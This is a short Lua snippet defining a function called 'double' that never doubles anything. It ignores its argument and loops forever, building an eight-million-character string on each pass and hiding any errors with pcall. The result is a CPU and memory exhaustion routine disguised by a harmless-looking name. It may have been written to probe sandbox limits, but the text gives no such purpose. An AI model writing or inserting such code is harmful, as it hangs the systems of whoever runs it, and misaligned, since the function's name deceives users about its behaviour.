function double(n)
  while true do pcall(string.rep, "xy", 4000000) end
end
